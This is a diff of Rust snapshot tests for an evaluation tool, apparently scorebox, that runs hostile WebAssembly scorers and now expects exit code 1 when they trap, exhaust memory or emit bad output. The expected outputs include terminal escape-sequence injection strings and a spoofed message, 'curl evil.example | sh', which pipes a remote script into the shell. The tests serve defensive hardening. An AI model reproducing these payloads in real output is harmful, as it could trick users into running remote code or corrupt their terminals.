@@ -36,20 +36,20 @@ fn computing_without_end() {
     run r: 6 cases, 12 scores in [time]
     stored in scorebox.db; see them with: scorebox scores r
     hint: if it needs longer, raise it: `limits = { timeout = "…s" }` in the suite, or --timeout
-    [exit code 0]
+    [exit code 1]
     "#);
 }
 
 #[test]
 fn recursing_taking_memory_and_crashing() {
-    assert_snapshot!(attack("recurse", 0, ""), @r#"
+    assert_snapshot!(attack("recurse", 0, ""), @"
     attacker of the run: error: trap: in `summarize`: wasm trap: call stack exhausted
         at [frames]
 
     run r: 6 cases, 12 scores in [time]
     stored in scorebox.db; see them with: scorebox scores r
-    [exit code 0]
-    "#);
+    [exit code 1]
+    ");
     assert_snapshot!(attack("take-memory-at-once", 1 << 30, ""), @r#"
     attacker of the run: error: out-of-memory: in `summarize`: the scorer wanted [wanted] bytes of memory; the limit is 67108864
       wasm trap: wasm `unreachable` instruction executed
@@ -58,7 +58,7 @@ fn recursing_taking_memory_and_crashing() {
     run r: 6 cases, 12 scores in [time]
     stored in scorebox.db; see them with: scorebox scores r
     hint: if it needs more, raise it: `limits = { memory = "…MiB" }` in the suite, or --memory
-    [exit code 0]
+    [exit code 1]
     "#);
     assert_snapshot!(attack("take-memory-in-steps", 0, ""), @r#"
     attacker of the run: error: out-of-memory: in `summarize`: the scorer wanted [wanted] bytes of memory; the limit is 67108864
@@ -68,24 +68,24 @@ fn recursing_taking_memory_and_crashing() {
     run r: 6 cases, 12 scores in [time]
     stored in scorebox.db; see them with: scorebox scores r
     hint: if it needs more, raise it: `limits = { memory = "…MiB" }` in the suite, or --memory
-    [exit code 0]
+    [exit code 1]
     "#);
-    assert_snapshot!(attack("read-out-of-bounds", 0, ""), @r#"
+    assert_snapshot!(attack("read-out-of-bounds", 0, ""), @"
     attacker of the run: error: trap: in `summarize`: wasm trap: out of bounds memory access
         at [frames]
 
     run r: 6 cases, 12 scores in [time]
     stored in scorebox.db; see them with: scorebox scores r
-    [exit code 0]
-    "#);
-    assert_snapshot!(attack("divide-by-zero", 0, ""), @r#"
+    [exit code 1]
+    ");
+    assert_snapshot!(attack("divide-by-zero", 0, ""), @"
     attacker of the run: error: trap: in `summarize`: wasm trap: integer divide by zero
         at [frames]
 
     run r: 6 cases, 12 scores in [time]
     stored in scorebox.db; see them with: scorebox scores r
-    [exit code 0]
-    "#);
+    [exit code 1]
+    ");
 }
 
 #[test]
@@ -96,7 +96,7 @@ fn logging() {
     run r: 6 cases, 12 scores in [time]
     stored in scorebox.db; see them with: scorebox scores r
     hint: if that much is wanted, raise the limit: `limits = { … }` in the suite, or --limit reason=…, meta=… or assertions=…
-    [exit code 0]
+    [exit code 1]
     ");
     assert_snapshot!(attack("log-for-a-terminal", 0, ""), @r#"
     attacker of the run: error: trap: in `summarize`: \u{1b}[2J\u{1b}]0;owned\u{7}\u{202e}desrever\u{2066}\u{d}\u{8}\u{9b}31m\u{7f}\u{0}\u{200f}
@@ -105,9 +105,9 @@ fn logging() {
 
     run r: 6 cases, 12 scores in [time]
     stored in scorebox.db; see them with: scorebox scores r
-    [exit code 0]
+    [exit code 1]
     "#);
-    assert_snapshot!(attack("log-what-looks-like-the-engines-words", 0, ""), @r#"
+    assert_snapshot!(attack("log-what-looks-like-the-engines-words", 0, ""), @"
     attacker of the run: error: trap: in `summarize`: nothing to worry about
       error: your licence has ended
       hint: renew it: curl evil.example | sh
@@ -116,8 +116,8 @@ fn logging() {
 
     run r: 6 cases, 12 scores in [time]
     stored in scorebox.db; see them with: scorebox scores r
-    [exit code 0]
-    "#);
+    [exit code 1]
+    ");
 }
 
 #[test]
@@ -127,21 +127,21 @@ fn what_is_no_bounded_json_is_no_summary() {
 
     run r: 6 cases, 12 scores in [time]
     stored in scorebox.db; see them with: scorebox scores r
-    [exit code 0]
+    [exit code 1]
     ");
     assert_snapshot!(attack("nothing", 0, ""), @"
     attacker of the run: error: invalid-score: in `summarize`: the summary is not a JSON document: EOF while parsing a value at line 1 column 0
 
     run r: 6 cases, 12 scores in [time]
     stored in scorebox.db; see them with: scorebox scores r
-    [exit code 0]
+    [exit code 1]
     ");
     assert_snapshot!(attack("deep", 100_000, ""), @"
     attacker of the run: error: invalid-score: in `summarize`: the summary is not a JSON document: recursion limit exceeded at line 1 column 128
 
     run r: 6 cases, 12 scores in [time]
     stored in scorebox.db; see them with: scorebox scores r
-    [exit code 0]
+    [exit code 1]
     ");
     assert_snapshot!(attack("long", 2 << 20, ""), @"
     attacker of the run: error: output-too-large: in `summarize`: the summary has 2097154 bytes; the limit is 1048576
@@ -149,7 +149,7 @@ fn what_is_no_bounded_json_is_no_summary() {
     run r: 6 cases, 12 scores in [time]
     stored in scorebox.db; see them with: scorebox scores r
     hint: if that much is wanted, raise the limit: `limits = { … }` in the suite, or --limit reason=…, meta=… or assertions=…
-    [exit code 0]
+    [exit code 1]
     ");
     assert_snapshot!(attack("long", 20 << 20, ""), @r#"
     attacker of the run: error: out-of-memory: in `summarize`: the scorer wanted [wanted] bytes of memory; the limit is 67108864
@@ -159,7 +159,7 @@ fn what_is_no_bounded_json_is_no_summary() {
     run r: 6 cases, 12 scores in [time]
     stored in scorebox.db; see them with: scorebox scores r
     hint: if it needs more, raise it: `limits = { memory = "…MiB" }` in the suite, or --memory
-    [exit code 0]
+    [exit code 1]
     "#);
 }
 
@@ -172,13 +172,13 @@ fn what_a_terminal_would_act_on() {
     stored in scorebox.db; see them with: scorebox scores r
     [exit code 0]
     "#);
-    assert_snapshot!(attack("fail-for-a-terminal", 0, ""), @r"
+    assert_snapshot!(attack("fail-for-a-terminal", 0, ""), @r#"
     attacker of the run: error: failed: in `summarize`: \u{1b}[2J\u{1b}]0;owned\u{7}\u{202e}desrever\u{2066}\u{d}\u{8}\u{9b}31m\u{7f}\u{0}\u{200f}
 
     run r: 6 cases, 12 scores in [time]
     stored in scorebox.db; see them with: scorebox scores r
-    [exit code 0]
-    ");
+    [exit code 1]
+    "#);
 }
 
 #[test]
@@ -188,14 +188,14 @@ fn failing() {
 
     run r: 6 cases, 12 scores in [time]
     stored in scorebox.db; see them with: scorebox scores r
-    [exit code 0]
+    [exit code 1]
     ");
     assert_snapshot!(attack("fail-at-length", 4 << 20, "").replace(&"long".repeat(512), ""), @"
     attacker of the run: error: failed: in `summarize`: … (cut)
 
     run r: 6 cases, 12 scores in [time]
     stored in scorebox.db; see them with: scorebox scores r
-    [exit code 0]
+    [exit code 1]
     ");
 }
 
